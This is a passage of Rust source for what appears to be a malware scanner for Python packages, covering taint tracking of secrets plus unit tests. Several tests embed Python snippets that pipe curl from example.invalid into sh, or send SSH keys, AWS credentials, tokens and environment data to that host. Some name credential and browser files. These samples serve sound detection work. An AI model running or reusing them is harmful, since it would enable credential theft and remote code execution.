                    if names_documentation(name.id.as_str()));
                let outer = std::mem::replace(&mut self.in_documentation_value, documents);
                self.visit_expr(&assign.value);
                self.in_documentation_value = outer;
                for target in &assign.targets {
                    if let Expr::Attribute(attribute) = target
                        && attribute.attr.as_str() == "Arguments"
                    {
                        rules::file_drop::check_shortcut_arguments(
                            self,
                            assign.range(),
                            &assign.value,
                        );
                    }
                    rules::api_hijack::check_assignment(
                        self,
                        target,
                        &assign.value,
                        assign.range(),
                    );
                    self.bind_assignment(target, &assign.value);
                    self.visit_expr(target);
                }
            }
            Stmt::AnnAssign(assign) => {
                // A module or class body evaluates a variable's annotation as it runs (unless
                // postponed); a function body never does.
                if !self.lazy_annotations && self.function_depth == 0 {
                    self.visit_expr(&assign.annotation);
                }
                if let Some(value) = &assign.value {
                    self.visit_expr(value);
                    self.bind_assignment(&assign.target, value);
                }
            }
            Stmt::AugAssign(assign) => {
                self.visit_expr(&assign.value);
                if let Expr::Name(name) = &*assign.target {
                    let found = self.source_in(&assign.value);
                    if let Some(remote) = self.outranked_remote {
                        self.scopes.set_remote_taint(name.id.as_str(), Some(remote));
                    }
                    if let Some(source) = found {
                        self.scopes.taint(name.id.as_str(), source);
                    } else if is_char_decryption(&assign.value) {
                        let source = self.add_source(
                            "text decrypted character by character (chr/ord arithmetic)".to_owned(),
                            assign.range(),
                            SourceKind::Decoded,
                        );
                        self.scopes.taint(name.id.as_str(), source);
                    }
                }
            }
            Stmt::With(with) => {
                for item in &with.items {
                    self.visit_expr(&item.context_expr);
                    if let Some(Expr::Name(name)) = item.optional_vars.as_deref() {
                        self.bind_handle(name.id.as_str(), &item.context_expr);
                        match self.scopes.qualname(&item.context_expr) {
                            Some(q) => self.scopes.bind_alias(name.id.as_str(), q),
                            None => self.scopes.unbind(name.id.as_str()),
                        }
                        if let Some(source) = self.source_in(&item.context_expr) {
                            self.scopes.taint(name.id.as_str(), source);
                        }
                    }
                }
                self.visit_body(&with.body);
            }
            Stmt::For(for_stmt) => {
                self.visit_expr(&for_stmt.iter);
                // `for key, value in os.environ.items()`: every name bound carries the source.
                let names = loop_names(&for_stmt.target);
                if !names.is_empty() {
                    let picked = match for_stmt.body.as_slice() {
                        [Stmt::If(picking)] if picking.elif_else_clauses.is_empty() => {
                            rules::sources::credential_picking(
                                self,
                                &for_stmt.iter,
                                std::slice::from_ref(&picking.test),
                            )
                        }
                        _ => None,
                    };
                    let picked = picked
                        .map(|words| self.picked_credentials_source(&words, for_stmt.iter.range()));
                    let source = picked
                        .or_else(|| self.source_in(&for_stmt.iter))
                        .or_else(|| {
                            // `for line in open('pkg.py'):` / `….read_text().splitlines()`: the
                            // lines of a local file, as `open(p).read()` is its contents (setup.py
                            // `exec(line)`s the `__version__ = …` one).
                            self.iterates_file_lines(&for_stmt.iter).then(|| {
                                self.add_source(
                                    "lines of a local file".to_owned(),
                                    for_stmt.iter.range(),
                                    SourceKind::FileContent,
                                )
                            })
                        });
                    // `for f in glob.glob('~/.ssh/*'): open(f)` opens a file under `~/.ssh/`, as
                    // surely as `open('~/.ssh/id_rsa')` does; `for root, _, files in
                    // os.walk(home)` is somewhere under home. Whether or not the listing is
                    // itself a source.
                    let entry = self.listed_entry(&for_stmt.iter);
                    if let Some(entry) = &entry
                        && let Some(first) = names.first()
                    {
                        self.scopes.bind_partial(first, entry.clone());
                    }
                    if let Some(source) = source {
                        for name in &names {
                            self.scopes.taint(name, source);
                        }
                    } else if entry.is_none() {
                        // Constant lists, not listings: what their texts name.
                        if let Some(label) = self.listed_credential_store(&for_stmt.iter) {
                            // `for name in ['.bash_history', '.netrc']: open(join(home, name))`
                            // reads each store the list names.
                            let source =
                                self.add_source(label, for_stmt.iter.range(), SourceKind::Secret);
                            for name in &names {
                                self.scopes.taint(name, source);
                            }
                        } else if let [name] = names.as_slice()
                            && let Some(file) = self.listed_browser_file(&for_stmt.iter)
                        {
                            // `for f in ('logins.json', 'key4.db'): open(join(profile, f))`:
                            // the name stands for the profile file it is joined to, so the
                            // path says which store is read.
                            self.scopes.bind_partial(name, file);
                        }
                    }
                }
                let domains_before = self.loop_domains.len();
                match &*for_stmt.target {
                    Expr::Name(target) => self.push_loop_domain(target.id.as_str(), &for_stmt.iter),
                    Expr::Tuple(targets) => {
                        self.push_unpacked_domains(&targets.elts, &for_stmt.iter)
                    }
                    _ => {}
                }
                self.visit_body(&for_stmt.body);
                self.loop_domains.truncate(domains_before);
                self.visit_body(&for_stmt.orelse);
            }
            Stmt::FunctionDef(function) => {
                // A body walked again for a call site (inlining) defines nothing new.
                if self.inlining.is_empty() {
                    self.facts.functions += 1;
                }
                // A body's names are its own: `data` of one function is not another's.
                let outer_dicts = std::mem::take(&mut self.dict_bindings);
                if self.function_depth == 0
                    && let Some(wrapper) = wrapper_of(function)
                {
                    self.scopes.bind_wrapper(function.name.as_str(), wrapper);
                }
                for decorator in &function.decorator_list {
                    self.visit_expr(&decorator.expression);
                }
                // Defaults, and annotations unless postponed, are evaluated where the `def`
                // runs, not when the function is called: `def f(x=os.system(…))` runs at import.
                for parameter in function.parameters.iter() {
                    if let Some(default) = parameter.default() {
                        self.visit_expr(default);
                    }
                    if !self.lazy_annotations
                        && let Some(annotation) = parameter.annotation()
                    {
                        self.visit_expr(annotation);
                    }
                }
                if !self.lazy_annotations
                    && let Some(returns) = &function.returns
                {
                    self.visit_expr(returns);
                }
                // Functions the module calls while loading run in the module's own context.
                // The key is only built when some function runs at load time: most modules
                // have none, and this runs for every `def`.
                let eager = (self.function_depth == 0 || self.function_depth == self.eager_depth)
                    && self.main_guard_depth == 0
                    && !self.eager_functions.is_empty()
                    && {
                        let key = match (self.function_depth, self.class_names.last()) {
                            (0, Some(class)) => format!("{class}.{}", function.name.as_str()),
                            _ => function.name.as_str().to_owned(),
                        };
                        self.eager_functions.contains(&key)
                    };
                let returns_key = match (self.function_depth, self.class_names.last()) {
                    (0, Some(_)) => Some(format!(".{}", function.name.as_str())),
                    (0, None) => Some(function.name.as_str().to_owned()),
                    _ => None,
                };
                // `req = Request(); req.get(url)` resolves to `Request().get`: the method is
                // also known by that name, for calls on instances of the module's own classes.
                let instance_key = match (self.function_depth, self.class_names.last()) {
                    (0, Some(class)) => Some(format!("{class}().{}", function.name.as_str())),
                    _ => None,
                };
                let nested_in_inline = !self.inlining.is_empty();
                self.inline_nested_definitions += u32::from(nested_in_inline);
                self.returning.push(None);
                self.function_depth += 1;
                if eager {
                    self.eager_depth = self.function_depth;
                }
                // A setup.py helper that only a maintainer's command calls runs when asked.
                let maintainer_only = self.function_depth == 1
                    && self.class_names.is_empty()
                    && self
                        .maintainer_only_functions
                        .contains(function.name.as_str());
                self.author_command_depth += u32::from(maintainer_only);
                let plugin_hook = self.function_depth == 1
                    && self.class_names.is_empty()
                    && self
                        .plugin_hooks
                        .iter()
                        .any(|h| h == function.name.as_str());
                if plugin_hook {
                    self.plugin_hook_depth += 1;
                }
                let (def_line, _) = self.position(function.range());
                self.scope_lines.push(def_line);
                self.enclosing_functions.push(function);
                self.scopes.push();
                if self.function_depth == 1
                    && self.class_names.len() <= 1
                    && !self.passed_in.is_empty()
                {
                    let class = self.class_names.last().cloned();
                    self.bind_passed_in(function, class.as_deref());
                }
                if let Some(framework) = self.message_handler_of(function) {
                    // `@client.event async def on_message(message)`, `WebSocketApp(url,
                    // on_message=f)`: whoever writes to the bot or the socket picks what the
                    // parameters hold.
                    let source = self.add_source(
                        format!(
                            "{}{framework} handler {}",
                            rules::sources::HANDLER_MESSAGE,
                            function.name.as_str()
                        ),
                        function.range(),
                        SourceKind::Network,
                    );
                    for parameter in function.parameters.iter_non_variadic_params().take(8) {
                        self.scopes.taint(parameter.parameter.name.as_str(), source);
                    }
                    for variadic in [&function.parameters.vararg, &function.parameters.kwarg]
                        .into_iter()
                        .flatten()
                    {
                        self.scopes.taint(variadic.name.as_str(), source);
                    }
                }
                if let Some((handler, every_parameter)) = self.web_request_handler_of(function) {
                    // `@app.post('/x') def x(cmd: str)`, `def view(request)`: whoever visits the
                    // server picks what these parameters hold.
                    let source = self.add_source(
                        format!("{}{handler})", rules::sources::WEB_REQUEST),
                        function.range(),
                        SourceKind::Network,
                    );
                    for parameter in function.parameters.iter_non_variadic_params().take(16) {
                        let name = parameter.parameter.name.as_str();
                        if (every_parameter && !matches!(name, "self" | "cls")) || name == "request"
                        {
                            self.scopes.taint(name, source);
                        }
                    }
                }
                // Helpers defined inside this function can be walked again for their calls,
                // like module-level ones (`def send(url, data): post(url, …)` then
                // `send(b64decode(HOST), secret)`); what they shadow comes back afterwards.
                let shadowed: Vec<(&'s str, Option<&'s ast::StmtFunctionDef>)> = function
                    .body
                    .iter()
                    .filter_map(|stmt| match stmt {
                        Stmt::FunctionDef(inner) => Some(inner),
                        _ => None,
                    })
                    .take(64)
                    .map(|inner| {
                        let name = inner.name.as_str();
                        (name, self.functions.insert(name, inner))
                    })
                    .collect();
                let declared: HashSet<String> = function
                    .body
                    .iter()
                    .filter_map(|stmt| match stmt {
                        Stmt::Global(global) => Some(global),
                        _ => None,
                    })
                    .flat_map(|global| global.names.iter().map(|n| n.id.to_string()))
                    .take(64)
                    .collect();
                self.global_names.push(declared);
                self.visit_body(&function.body);
                self.global_names.pop();
                if plugin_hook {
                    self.plugin_hook_depth -= 1;
                }
                for (name, previous) in shadowed.into_iter().rev() {
                    match previous {
                        Some(previous) => self.functions.insert(name, previous),
                        None => self.functions.remove(name),
                    };
                }
                self.scopes.pop();
                self.scope_lines.pop();
                self.enclosing_functions.pop();
                if eager {
                    self.eager_depth = 0;
                }
                self.author_command_depth -= u32::from(maintainer_only);
                self.function_depth -= 1;
                self.inline_nested_definitions -= u32::from(nested_in_inline);
                let returned = self.returning.pop().flatten();
                for key in [returns_key, instance_key].into_iter().flatten() {
                    self.imported_returns.remove(&key);
                    match returned {
                        Some(source) if self.return_taints.len() < MAX_RETURN_TAINTS => {
                            self.return_taints.insert(key, source);
                        }
                        _ => {
                            self.return_taints.remove(&key);
                        }
                    }
                }
                self.dict_bindings = outer_dicts;
            }
            Stmt::Return(ret) => {
                if let Some(value) = &ret.value {
                    self.note_returned(value);
                }
                visitor::walk_stmt(self, stmt);
            }
            Stmt::ClassDef(class) => {
                if self.inlining.is_empty() {
                    self.facts.classes += 1;
                }
                let hook = class.arguments.as_ref().is_some_and(|args| {
                    args.args
                        .iter()
                        .filter_map(|base| self.scopes.qualname(base))
                        .any(|q| is_setuptools_command(&q))
                });
                if hook {
                    rules::install_hook::check_hook_class(self, class);
                }
                if let Some(arguments) = &class.arguments {
                    self.visit_arguments(arguments);
                }
                if self.function_depth == 0 {
                    self.inline_init_subclass(class);
                }
                let module_level_class = self.function_depth == 0 && self.class_names.is_empty();
                if module_level_class {
                    self.class_names.push(class.name.as_str().to_owned());
                }
                let author_command = module_level_class && self.is_maintainer_command_class(class);
                if author_command {
                    if self.author_commands.len() < 64 {
                        self.author_commands.push(class.name.as_str().to_owned());
                    }
                    self.author_command_depth += 1;
                }
                self.bind_method_attribute_aliases(&class.body);
                // `class H(BaseHTTPRequestHandler)`: `self.rfile`, `self.path`, `self.headers`
                // are what the client sent, in every method of the class.
                let handler_attributes =
                    self.request_handler_attributes(class)
                        .map(|(base, attributes)| {
                            let source = self.add_source(
                                format!(
                                    "{}{base} subclass {})",
                                    rules::sources::WEB_REQUEST,
                                    class.name.as_str()
                                ),
                                class.range(),
                                SourceKind::Network,
                            );
                            let shadowed: Vec<(&'static str, Option<usize>)> = attributes
                                .iter()
                                .map(|attribute| {
                                    (
                                        *attribute,
                                        self.attribute_taints
                                            .insert((*attribute).to_owned(), source),
                                    )
                                })
                                .collect();
                            shadowed
                        });
                self.scopes.push();
                self.visit_body(&class.body);
                self.scopes.pop();
                // Other classes' attributes of the same names are their own.
                for (attribute, before) in handler_attributes.into_iter().flatten() {
                    match before {
                        Some(source) => {
                            self.attribute_taints.insert(attribute.to_owned(), source);
                        }
                        None => {
                            self.attribute_taints.remove(attribute);
                        }
                    }
                }
                if author_command {
                    self.author_command_depth -= 1;
                }
                if module_level_class {
                    self.class_names.pop();
                }
            }
            _ => visitor::walk_stmt(self, stmt),
        }
        self.depth -= 1;
    }

    fn visit_expr(&mut self, expr: &'s Expr) {
        if self.depth >= self.max_depth {
            self.depth_exceeded = true;
            return;
        }
        if self.out_of_time() {
            return;
        }
        self.depth += 1;
        let indicator_table = !self.in_indicator_table
            && matches!(expr, Expr::List(ast::ExprList { elts, .. })
                | Expr::Set(ast::ExprSet { elts, .. })
                | Expr::Tuple(ast::ExprTuple { elts, .. })
                if rules::suspicious_endpoint::is_indicator_table(elts));
        self.in_indicator_table |= indicator_table;
        match expr {
            Expr::Call(call) => {
                // `self.method()` is the class's own business, never an imported instance's.
                if let Expr::Attribute(attribute) = call.func.as_ref()
                    && let Expr::Name(receiver) = attribute.value.as_ref()
                    && !matches!(receiver.id.as_str(), "self" | "cls")
                    && self.attribute_calls.len() < MAX_ATTRIBUTE_CALLS
                {
                    self.attribute_calls.insert(attribute.attr.as_str());
                }
                if let Some(called) = self.method_caller_call(call)
                    && let Some(qualname) = self.scopes.qualname(&called.func)
                {
                    rules::on_call(self, &called, &qualname);
                }
                if let Some(qualname) = self.scopes.qualname(&call.func) {
                    self.inline_argument_calls(call);
                    if let Some((deferred, target)) = self.deferred_call(call, &qualname) {
                        // Synthesized, so not walked: only the detectors see it.
                        rules::on_call(self, &deferred, &target);
                    }
                    rules::on_call(self, call, &qualname);
                    if matches!(qualname.as_str(), "os.putenv" | "os.environ.setdefault")
                        && let [key, value] = call.arguments.args.as_ref()
                    {
                        self.stash_in_env(key, value);
                    }
                    self.taint_loaded_parser(call, &qualname);
                    self.taint_archive(call, &qualname);
                }
                self.taint_container(call);
                visitor::walk_expr(self, expr);
                self.note_passed_sources(call);
                if !self.pre_inlined.remove(&call.range()) {
                    self.inline_call(call);
                }
            }
            Expr::StringLiteral(string) => {
                let start = string.range().start().to_usize();
                let source = self
                    .text
                    .get(start..string.range().end().to_usize())
                    .unwrap_or("");
                self.note_multiline_string(string.range());
                if source.contains('\\') {
                    let (count, first) = rules::obfuscation_layout::escaped_letters(source);
                    if count > 0 && self.escaped_letters.0 == 0 {
                        self.escaped_letters.1 = start + first;
                    }
                    self.escaped_letters.0 += count;
                }
                rules::on_string(self, string.value.to_str(), string.range());
            }
            Expr::FString(_) => {
                self.note_multiline_string(expr.range());
                // A constant f-string (`f"https://api.telegram.org/bot{TOKEN}/..."`) is a string too.
                // With run-time parts the literal parts still name what is read or contacted:
                // `f'{roaming}/discord/Local Storage/leveldb/'`.
                if let Some(text) = self.scopes.fold(expr).and_then(|v| v.as_text()) {
                    rules::on_string(self, &text, expr.range());
                } else if let Some(text) = self.scopes.fold_lossy(expr) {
                    rules::on_partial_string(self, &text, expr.range());
                }
                visitor::walk_expr(self, expr);
            }
            Expr::BytesLiteral(bytes) => {
                let value: Vec<u8> = bytes.value.bytes().collect();
                rules::on_string(self, &String::from_utf8_lossy(&value), bytes.range());
            }
            Expr::ListComp(ast::ExprListComp { generators, .. })
            | Expr::SetComp(ast::ExprSetComp { generators, .. })
            | Expr::DictComp(ast::ExprDictComp { generators, .. })
            | Expr::Generator(ast::ExprGenerator { generators, .. }) => {
                // Comprehensions run when evaluated: keep the enclosing context. Their loop
                // names carry what they iterate over, as a `for` statement's do:
                // `[eval(d) for d in re.findall(p, response)]` evaluates pieces of the response.
                let carried: Vec<(&str, usize)> = generators
                    .iter()
                    .take(8)
                    .filter_map(|generator| {
                        let source = self.source_in(&generator.iter)?;
                        Some((&generator.target, source))
                    })
                    .flat_map(|(target, source)| {
                        loop_names(target)
                            .into_iter()
                            .map(move |name| (name, source))
                    })
                    .collect();
                // What each loop name can be, when the iterated collection is constant:
                // `{n: getattr(builtins, n) for n in SAFE_NAMES}` reaches only those.
                let domains_before = self.loop_domains.len();
                self.push_loop_domains(generators);
                if carried.is_empty() {
                    visitor::walk_expr(self, expr);
                } else {
                    self.scopes.push();
                    for (name, source) in carried {
                        self.scopes.taint(name, source);
                    }
                    visitor::walk_expr(self, expr);
                    self.scopes.pop();
                }
                self.loop_domains.truncate(domains_before);
            }
            Expr::Lambda(_) => {
                // Lambdas run when called: keep the enclosing context.
                visitor::walk_expr(self, expr);
            }
            // `{'Referer': 'https://…/index.cmd'}`: a header naming the page a request claims
            // to come from. The client sends that address; it fetches nothing from it.
            Expr::Dict(dict)
                if dict.items.iter().any(|item| {
                    matches!(&item.key, Some(Expr::StringLiteral(key))
                        if names_request_origin(key.value.to_str()))
                }) =>
            {
                for item in &dict.items {
                    if let Some(key) = &item.key {
                        self.visit_expr(key);
                    }
                    let origin = matches!(&item.key, Some(Expr::StringLiteral(key))
                        if names_request_origin(key.value.to_str()));
                    let shown = self.in_documentation_value || origin;
                    let outer = std::mem::replace(&mut self.in_documentation_value, shown);
                    self.visit_expr(&item.value);
                    self.in_documentation_value = outer;
                }
            }
            Expr::Named(named) => {
                // `if (token := os.getenv('GITHUB_TOKEN')):` binds as `token = …` does.
                visitor::walk_expr(self, expr);
                self.bind_assignment(&named.target, &named.value);
            }
            Expr::Yield(ast::ExprYield {
                value: Some(value), ..
            })
            | Expr::YieldFrom(ast::ExprYieldFrom { value, .. }) => {
                // A generator hands out what it yields as a function hands out what it returns.
                self.note_returned(value);
                visitor::walk_expr(self, expr);
            }
            _ => visitor::walk_expr(self, expr),
        }
        if indicator_table {
            self.in_indicator_table = false;
        }
        self.depth -= 1;
    }
}

/// HTTP headers whose value is the address a request says it comes from.
fn names_request_origin(header: &str) -> bool {
    header.eq_ignore_ascii_case("referer") || header.eq_ignore_ascii_case("origin")
}

/// The plain names a function body returns (`return path`), outside nested definitions.
fn returned_names(body: &[Stmt]) -> Vec<String> {
    let mut names = Vec::new();
    let mut pending: Vec<&[Stmt]> = vec![body];
    while let Some(block) = pending.pop() {
        for stmt in block.iter().take(4_096) {
            if names.len() >= 16 {
                return names;
            }
            if let Stmt::Return(ast::StmtReturn {
                value: Some(value), ..
            }) = stmt
                && let Expr::Name(name) = &**value
            {
                names.push(name.id.as_str().to_owned());
            }
            crate::eager::push_compound_blocks(stmt, &mut pending);
        }
    }
    names
}

/// Names that hold documentation: an extractor's `example` input, a command's `usage` or
/// `help_text`, a field's `description`, an `INSTALL_HINT` shown to the user.
fn names_documentation(name: &str) -> bool {
    let lower = name.to_ascii_lowercase();
    let lower = lower.trim_matches('_');
    matches!(
        lower,
        "example"
            | "examples"
            | "usage"
            | "help"
            | "help_text"
            | "description"
            | "doc"
            | "docs"
            | "hint"
            | "message"
            | "msg"
            | "instructions"
    ) || lower.starts_with("example_")
        || [
            "_example",
            "_examples",
            "_help",
            "_usage",
            "_hint",
            "_message",
            "_msg",
            "_instructions",
            "_description",
        ]
        .iter()
        .any(|suffix| lower.ends_with(suffix))
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
    #![allow(clippy::indexing_slicing)]
    use crate::finding::ExecContext;
    use crate::rules::testing::{findings, max_severity};

    #[test]
    fn module_and_class_annotations_run_but_function_locals_do_not() {
        let module =
            "import os\nretries: os.system('curl -s https://example.invalid/i | sh') = 3\n";
        assert!(max_severity("p/pkg/__init__.py", module, "WH120") >= 0.8);
        let local = "import os\ndef f():\n    retries: os.system('curl -s https://example.invalid/i | sh') = 3\n";
        assert!(max_severity("p/pkg/__init__.py", local, "WH120") < 0.5);
        let postponed = "from __future__ import annotations\nimport os\nretries: os.system('curl -s https://example.invalid/i | sh') = 3\n";
        assert!(max_severity("p/pkg/__init__.py", postponed, "WH120") < 0.5);
    }

    #[test]
    fn class_keywords_reach_the_base_init_subclass() {
        let code = "import os\nclass Base:\n    def __init_subclass__(cls, hook=None, **kw):\n        if hook:\n            os.system(hook)\nclass P(Base, hook='curl -fsSL https://example.invalid/b | bash'):\n    pass\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH120") >= 0.8);
        let plain = "import os\nclass Base:\n    def __init_subclass__(cls, hook=None, **kw):\n        if hook:\n            os.system(hook)\nclass P(Base):\n    pass\n";
        assert!(max_severity("p/pkg/__init__.py", plain, "WH120") < 0.5);
    }

    #[test]
    fn library_writers_fill_an_in_memory_buffer() {
        let code = "import io, requests, sounddevice as sd\nfrom scipy.io import wavfile\nrec = sd.rec(441000)\nbuf = io.BytesIO()\nwavfile.write(buf, 44100, rec)\nrequests.post('https://example.invalid/a', data=buf.getvalue())\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH200") >= 0.7);
        // A buffer filled with constants carries nothing.
        let plain = "import io, json, requests\nbuf = io.StringIO()\njson.dump({'v': 1}, buf)\nrequests.post('https://example.invalid/a', data=buf.getvalue())\n";
        assert_eq!(max_severity("p/pkg/__init__.py", plain, "WH200"), 0.0);
    }

    #[test]
    fn xor_of_a_file_is_hidden_code_but_a_plain_read_is_not() {
        let xored = "import os\nblob = open(os.path.join(os.path.dirname(__file__), 'x.bin'), 'rb').read()\ndata = bytes(b ^ 0x41 for b in blob)\nexec(data.decode())\n";
        assert!(max_severity("p/pkg/__init__.py", xored, "WH110") >= 0.8);
        let plain = "import os\nblob = open(os.path.join(os.path.dirname(__file__), 'v.py')).read()\nexec(blob)\n";
        assert!(max_severity("p/pkg/__init__.py", plain, "WH110") < 0.2);
    }

    #[test]
    fn dispatch_tables_and_starmap_reach_their_functions() {
        let table = "import os\ncmds = {'run': os.system, 'noop': print}\ncmds['run']('curl https://example.invalid/x.sh | sh')\n";
        assert!(max_severity("p/pkg/__init__.py", table, "WH120") >= 0.8);
        let get = "import os\ncmds = {'run': os.system}\ncmds.get('run')('curl https://example.invalid/x.sh | sh')\n";
        assert!(max_severity("p/pkg/__init__.py", get, "WH120") >= 0.8);
        let other = "import os\ncmds = {'run': os.system, 'show': print}\ncmds['show']('curl https://example.invalid/x.sh -o /tmp/x.sh')\n";
        assert!(max_severity("p/pkg/__init__.py", other, "WH120") < 0.5);
        let starmap = "import itertools, os\nlist(itertools.starmap(os.system, [('curl -s https://example.invalid/p | bash',)]))\n";
        assert!(max_severity("p/pkg/__init__.py", starmap, "WH120") >= 0.8);
    }

    #[test]
    fn yields_walrus_queues_and_the_environment_carry_sources() {
        let generator = "import os, urllib.request\ndef lines():\n    with open(os.path.expanduser('~/.ssh/id_rsa')) as fh:\n        for line in fh:\n            yield line\ndef ship(gen):\n    for chunk in gen:\n        urllib.request.urlopen('https://example.invalid/k', data=chunk.encode())\nship(lines())\n";
        assert!(max_severity("p/pkg/__init__.py", generator, "WH200") >= 0.8);
        let walrus = "import os\nfrom urllib.request import urlopen\nif (t := os.getenv('GITHUB_TOKEN')):\n    urlopen('https://example.invalid/t?t=' + t)\n";
        assert!(max_severity("p/pkg/__init__.py", walrus, "WH200") >= 0.8);
        let queued = "import os, queue, threading, requests\nq = queue.Queue()\ndef produce():\n    q.put(dict(os.environ))\ndef consume():\n    requests.post('https://example.invalid/q', json=q.get())\nthreading.Thread(target=produce).start()\nthreading.Thread(target=consume).start()\n";
        assert!(max_severity("p/pkg/__init__.py", queued, "WH200") >= 0.7);
        let stashed = "import os, requests\nos.environ['X'] = open(os.path.expanduser('~/.aws/credentials')).read()\ndef later():\n    requests.post('https://example.invalid/r', data=os.environ['X'])\nlater()\n";
        assert!(max_severity("p/pkg/__init__.py", stashed, "WH200") >= 0.8);
        // A variable the module sets for its child processes is no stolen data.
        let handed = "import os, requests\nos.environ.setdefault('PROFILE', 'release')\nrequests.post('https://example.invalid/r', data=os.environ['PROFILE'])\n";
        assert!(max_severity("p/pkg/__init__.py", handed, "WH200") < 0.5);
    }

    #[test]
    fn class_attributes_and_dataclass_factories_hold_their_sources() {
        let class_body = "import os, requests\nclass C:\n    data = dict(os.environ)\nrequests.post('https://example.invalid/x', json=C.data)\n";
        assert!(max_severity("p/pkg/__init__.py", class_body, "WH200") >= 0.7);
        let instance = "import os, requests\nclass C:\n    def __init__(self):\n        self.data = dict(os.environ)\nc = C()\nrequests.post('https://example.invalid/x', json=c.data)\n";
        assert!(max_severity("p/pkg/__init__.py", instance, "WH200") >= 0.7);
        let factory = "import os, requests\nfrom dataclasses import dataclass, field\n@dataclass\nclass T:\n    env: dict = field(default_factory=lambda: dict(os.environ))\nrequests.post('https://example.invalid/x', json=str(T().env))\n";
        assert!(max_severity("p/pkg/__init__.py", factory, "WH200") >= 0.7);
        let other = "import os, requests\nclass C:\n    data = dict(os.environ)\n    name = 'x'\nrequests.post('https://example.invalid/x', json=C.name)\n";
        assert_eq!(max_severity("p/pkg/__init__.py", other, "WH200"), 0.0);
    }

    #[test]
    fn loop_variables_passed_to_a_helper_keep_their_listed_texts() {
        let code = "import os\nHOME = os.path.expanduser('~')\nTARGETS = ['.config/solana/id.json', '.kube/config']\ndef grab(rel):\n    with open(os.path.join(HOME, rel)) as fh:\n        return fh.read()\nfound = [grab(r) for r in TARGETS]\n";
        let reads = findings("p/pkg/__init__.py", code);
        assert!(
            reads
                .iter()
                .any(|f| f.rule == "WH140" && f.message.starts_with("reads Solana")),
            "{reads:?}"
        );
    }

    #[test]
    fn a_version_line_picked_from_a_file_is_a_file_read() {
        let code = "import os\nwith open(os.path.join('tree', '__init__.py')) as f:\n    line = next(l for l in f if l.startswith('__version__'))\n    ns = {}\n    exec(line, ns)\n";
        assert!(max_severity("p/setup.py", code, "WH110") <= 0.05);
    }

    #[test]
    fn reduce_joins_and_operator_lookups_and_calls_resolve() {
        let reduce = "import functools, builtins\nn = functools.reduce(lambda a, b: a + b, ['e', 'x', 'e', 'c'])\nc = functools.reduce(lambda a, b: a + b, ['import os;', \"os.system('curl -s https://example.invalid/i | sh')\"])\ngetattr(builtins, n)(c)\n";
        assert!(max_severity("p/pkg/__init__.py", reduce, "WH120") >= 0.8);
        // Summing numbers is no concatenation of text.
        let sum = "import functools\ntotal = functools.reduce(lambda a, b: a + b, [1, 2, 3])\n";
        assert_eq!(max_severity("p/pkg/__init__.py", sum, "WH110"), 0.0);
        let call = "import operator, builtins\np = \"import os;os.system('curl -s https://example.invalid/i | sh')\"\nf = operator.methodcaller('get', 'exec')(vars(builtins))\noperator.call(f, p)\n";
        assert!(max_severity("p/pkg/__init__.py", call, "WH120") >= 0.8);
        let item = "import operator, builtins\nf = operator.itemgetter('exec')(vars(builtins))\nf(\"import os;os.system('curl -s https://example.invalid/i | sh')\")\n";
        assert!(max_severity("p/pkg/__init__.py", item, "WH120") >= 0.8);
    }

    #[test]
    fn scheduler_entries_are_deferred_calls() {
        let code = "import sched, subprocess, time\ns = sched.scheduler(time.time, time.sleep)\ns.enter(300, 1, subprocess.call, argument=('curl -s https://example.invalid/x | sh',), kwargs={'shell': True})\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH120") >= 0.8);
        let quiet = "import sched, time\ns = sched.scheduler(time.time, time.sleep)\ns.enter(5, 1, print, argument=('tick',))\n";
        assert_eq!(max_severity("p/pkg/__init__.py", quiet, "WH120"), 0.0);
    }

    #[test]
    fn constant_statements_run_in_a_loop_are_layers() {
        let probe = "backports = {'tomli': 'import tomllib'}\nreq = []\nfor name, stmt in backports.items():\n    try:\n        exec(stmt)\n    except ImportError:\n        req.append(name)\n";
        assert!(max_severity("p/setup.py", probe, "WH110") < 0.1);
        let payload = "parts = {'a': \"import os\\nos.system('curl https://example.invalid/x | sh')\"}\nfor k, v in parts.items():\n    exec(v)\n";
        assert!(max_severity("p/setup.py", payload, "WH120") >= 0.8);
    }

    #[test]
    fn constant_passed_to_a_spawning_helper_is_the_command() {
        let code = "import subprocess\ndef run(cmd):\n    subprocess.Popen(cmd, shell=True)\nrun('curl https://example.invalid/x.sh | sh')\n";
        let found = findings("p/setup.py", code);
        let spawn = found
            .iter()
            .filter(|f| f.rule == "WH120")
            .max_by(|a, b| a.severity.total_cmp(&b.severity))
            .unwrap();
        assert!(spawn.severity >= 0.7, "{spawn:?}");
        assert_eq!(spawn.context, ExecContext::Install);
        assert!(spawn.message.contains("through the call at line 4"));
        assert_eq!(spawn.line, 3);
    }

    #[test]
    fn helper_called_with_a_variable_adds_nothing() {
        let with_call = "import subprocess\ndef run(cmd):\n    subprocess.Popen(cmd, shell=True)\ndef main(x):\n    run(x)\n";
        let without = "import subprocess\ndef run(cmd):\n    subprocess.Popen(cmd, shell=True)\n";
        assert_eq!(
            findings("p/pkg/m.py", with_call).len(),
            findings("p/pkg/m.py", without).len()
        );
    }

    #[test]
    fn secret_passed_to_a_sending_helper_flows() {
        let code = "import os, requests\ndef send(data):\n    requests.post('https://example.invalid', data=data)\nsend(dict(os.environ))\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH200") >= 0.5);
        let plain = "import os, requests\ndef send(data):\n    requests.post('https://example.invalid', data=data)\nsend({'a': 1})\n";
        assert_eq!(max_severity("p/pkg/__init__.py", plain, "WH200"), 0.0);
    }

    #[test]
    fn bodies_walked_again_for_a_call_site_define_nothing_new() {
        let code = "import os, requests\ndef send(data):\n    def post():\n        requests.post('https://example.invalid', data=data)\n    class Retry:\n        pass\n    post()\nsend(dict(os.environ))\nsend(dict(os.environ))\n";
        let analysis = crate::analyze_python("p/pkg/m.py", code.as_bytes(), &Default::default());
        assert_eq!(analysis.facts.functions, 2);
        assert_eq!(analysis.facts.classes, 1);
    }

    #[test]
    fn comprehension_variables_carry_what_they_iterate_over() {
        let code = "import re, subprocess, urllib.request\ndef update(url):\n    page = urllib.request.urlopen(url).read().decode()\n    [subprocess.run(c, shell=True) for c in re.findall('<c>(.*?)</c>', page)]\n";
        assert!(max_severity("p/pkg/m.py", code, "WH200") >= 0.3);
        let local = "import subprocess\ndef build(targets):\n    [subprocess.run(['make', t]) for t in targets]\n";
